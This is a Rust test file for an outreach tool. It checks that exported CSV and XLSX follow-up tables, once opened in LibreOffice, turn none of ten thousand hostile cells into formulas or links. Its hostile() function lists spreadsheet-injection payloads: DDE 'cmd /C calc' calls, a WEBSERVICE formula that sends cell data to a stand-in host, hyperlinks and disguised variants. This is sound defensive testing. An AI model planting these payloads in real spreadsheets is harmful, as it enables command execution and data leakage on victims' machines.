//! Hostile texts in every table that leaves, opened by LibreOffice: nothing runs, and
//! nothing is read otherwise than it was written.

use crate::fixture::{follow_up, row, stationery};
use crate::judges::{python, read, rows, saved};
use outreach::targets::{Format, Target, files, prepare, shipped};
use outreach::{Channel, FollowUp, FollowUpRow, harmless};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;
use words::{Language, Sentence};

/// Hostile cells in each of the four tables of the owner's own, ten thousand in all.
const CELLS: usize = 2_500;
/// The same in each tool's.
const CELLS_OF_A_TOOL: usize = 100;
/// Hostile cells of one person.
const CELLS_OF_ONE: usize = 4;

/// The `number`th hostile text: something to run, or something that is easily misread, and
/// never the same twice.
fn hostile(number: usize) -> String {
    let long = "가나다라마바사아자차".repeat(30);
    let kinds = [
        format!("=HYPERLINK(\"http://x.example/{number}\",\"눌러 보세요\")"),
        format!("+cmd|' /C calc'!A{number}"),
        format!("@SUM(A1:A{number})"),
        format!("-{number}+cmd|' /C calc'!A0"),
        format!("\t=1+{number}"),
        format!("\r=1+{number}"),
        format!("\n@{number}"),
        format!("＝1+{number}"),
        format!("＋{number}＋1 ＠누구"),
        format!(" =1+{number}"),
        format!("\u{a0}=1+{number}"),
        format!("=WEBSERVICE(\"http://x.example/\"&A{number})"),
        format!("{{=SUM(A1:A{number})}}"),
        format!("DDE(\"cmd\";\"/C calc\";\"{number}\")"),
        format!("\"{number}\",\"=1+1\"\r\n=1+1,\"x"),
        format!("김\"하늘\", {number}; =1+1"),
        format!("{number} 🍶👩‍👩‍👧‍👦 é ﾊﾝｶｸ 똠"),
        format!("{number} {long}"),
        format!("{number}\n둘째 줄\n=1+1"),
        format!("_x0041_ {number} &amp; <b>굵게</b> ]]>"),
    ];
    kinds[number % kinds.len()].clone()
}

/// So many hostile cells of people whom this channel reaches.
fn people(channel: Channel, cells: usize) -> FollowUp {
    let rows = (0..cells / CELLS_OF_ONE).map(|person| {
        let mut row = match channel.contact_point() {
            permission::ContactPoint::Email => {
                let address = format!("visitor{person}@visitor.example");
                row(channel, &address, Language::Korean)
            }
            _ => {
                let number = format!("+8210{:08}", 10_000_000 + person);
                row(channel, &number, Language::Korean)
            }
        };
        let text = |place| hostile(person * CELLS_OF_ONE + place);
        let both = |text: String| Sentence::of_texts(&text, &text);
        row.name = text(0);
        row.topic = both(text(1));
        row.answers = both(text(2));
        row.offered[0].product = both(text(3));
        row
    });
    follow_up(rows.collect())
}

/// Line ends as LibreOffice keeps them within a cell.
fn read_alike(text: &str) -> String {
    let text = text.replace("_x000D_", "\r").replace("_x0009_", "\t");
    text.replace("\r\n", "\n").replace('\r', "\n")
}

/// Opens all these and saves them as workbooks: LibreOffice's own reading of them. A text
/// table is opened as a double-click would, with numbers recognised and sums worked out.
fn opened(files: &[&PathBuf], charset: Option<u32>, out: &Path) {
    let profile = out.join("profile");
    let mut command = Command::new("soffice");
    command
        .arg(format!(
            "-env:UserInstallation=file://{}",
            profile.display()
        ))
        .args(["--headless", "--convert-to", "xlsx:Calc MS Excel 2007 XML"]);
    if let Some(charset) = charset {
        let how = format!("CSV:44,34,{charset},1,,0,false,true,false,false,false,0,true");
        command.arg(format!("--infilter={how}"));
    }
    let output = command.arg("--outdir").arg(out).args(files).output();
    let output = output.expect("LibreOffice runs");
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
}

/// The number by which LibreOffice names an encoding.
fn charset(target: &Target) -> Option<u32> {
    match (target.format, target.encoding.code()) {
        (Format::Csv, "cp949") => Some(62),
        (Format::Csv, _) => Some(76),
        _ => None,
    }
}

/// One text of a person.
type TextOf = fn(&FollowUpRow) -> String;

/// A table, and what its columns must say after somebody opened it.
struct Table {
    path: PathBuf,
    charset: Option<u32>,
    columns: Vec<(usize, Vec<String>)>,
}

/// Ten thousand hostile cells in the tables of the owner's own, and some in each tool's:
/// no cell becomes a formula or a link, every hostile text is read as it was written, and
/// telephone numbers keep their zeros where a person opens the table.
#[test]
fn ten_thousand_hostile_cells_do_nothing() {
    let Some(python) = python() else { return };
    if skipped::without(&["soffice"]) || skipped::as_long() {
        return;
    }
    let folder = tempfile::tempdir().expect("a folder");
    let mut tables = Vec::new();
    let korean = Language::Korean;

    let plan = people(Channel::Sms, CELLS);
    let written = [
        (
            "own.csv",
            outreach::follow_up::csv(&plan, korean).expect("made"),
        ),
        (
            "own.xlsx",
            outreach::follow_up::xlsx(&plan, korean).expect("made"),
        ),
    ];
    for (name, bytes) in written {
        let is_csv = name.ends_with("csv");
        let cell = |text: &String| match is_csv {
            true => harmless(text).into_owned(),
            false => text.clone(),
        };
        let of = |text: TextOf| {
            let cells = plan.rows.iter().map(text);
            cells.map(|text| cell(&text)).collect::<Vec<_>>()
        };
        tables.push(Table {
            path: saved(&folder, name, &bytes),
            charset: is_csv.then_some(76),
            columns: vec![
                (0, of(|row| row.name.clone())),
                (2, of(|row| national(&row.contact))),
                (3, of(|row| row.topic.ko.clone())),
                (4, of(|row| row.answers.ko.clone())),
                (5, of(product)),
            ],
        });
    }
    for target in shipped() {
        if !matches!(target.format, Format::Csv | Format::Xlsx) {
            continue;
        }
        let is_own = ["csv", "xlsx"].contains(&target.id.as_str());
        let cells = if is_own { CELLS } else { CELLS_OF_A_TOOL };
        let plan = people(target.channel.unwrap_or(Channel::Email), cells);
        let prepared = prepare(plan, target, &stationery(), korean).expect("lawful");
        let made = files(&prepared.follow_up, target, &stationery(), korean).expect("made");
        let name = format!("{}.{}", target.id, target.format.code());
        let field = |code: &str| {
            let mut columns = target.columns.iter();
            columns.position(|it| it.field.is_some_and(|field| field.code() == code))
        };
        let mut columns = Vec::new();
        // What code page 949 lacks is written otherwise, and other tests say how.
        let is_whole = target.encoding.code() != "cp949" && target.text_message.is_none();
        let texts: [(&str, TextOf); 4] = [
            ("name", |row| row.name.clone()),
            ("topic", |row| row.topic.ko.clone()),
            ("answers", |row| row.answers.ko.clone()),
            ("product", product),
        ];
        for (code, of) in texts {
            if let Some(place) = field(code).filter(|_| is_whole) {
                let cells = prepared.follow_up.rows.iter().map(of);
                let cells = cells.map(|text| match target.format {
                    Format::Csv => harmless(&text).into_owned(),
                    _ => text,
                });
                columns.push((place, cells.collect()));
            }
        }
        tables.push(Table {
            path: saved(&folder, &name, &made[0].bytes),
            charset: charset(target),
            columns,
        });
    }
    // What is not made harmless does run there, so that the others could have.
    let live = Table {
        path: saved(&folder, "live.csv", "이름,값\r\n=1+1,2\r\n".as_bytes()),
        charset: Some(76),
        columns: Vec::new(),
    };
    tables.push(live);

    let out = folder.path().join("opened");
    let mut by_charset: BTreeMap<Option<u32>, Vec<&PathBuf>> = BTreeMap::new();
    for table in &tables {
        by_charset
            .entry(table.charset)
            .or_default()
            .push(&table.path);
    }
    for (charset, files) in by_charset {
        // Two files of one name would be one.
        for ending in ["csv", "xlsx"] {
            let files = files.iter().copied();
            let files: Vec<_> = files
                .filter(|it| it.extension().is_some_and(|it| it == ending))
                .collect();
            if !files.is_empty() {
                opened(&files, charset, &out.join(ending));
            }
        }
    }
    for table in tables {
        let stem = table.path.file_stem().expect("a name").to_string_lossy();
        let ending = table.path.extension().expect("an ending");
        let path = out.join(ending).join(format!("{stem}.xlsx"));
        let found = read(&python, "workbook", &path, &[]);
        let live = found["live"].as_array().expect("a list");
        assert_eq!(live.is_empty(), stem != "live", "{stem}: {live:?}");
        let cells = rows(&found["rows"]);
        for (place, wanted) in table.columns {
            assert_eq!(cells.len() - 1, wanted.len(), "{stem}");
            for (row, wanted) in cells[1..].iter().zip(&wanted) {
                assert_eq!(read_alike(&row[place]), read_alike(wanted), "{stem}");
            }
        }
    }
}

fn product(row: &FollowUpRow) -> String {
    let first = row.offered.first();
    first.map_or_else(String::new, |it| it.product.ko.clone())
}

fn national(number: &str) -> String {
    let digits = number.replacen("+82", "0", 1);
    format!("{}-{}-{}", &digits[..3], &digits[3..7], &digits[7..])
}
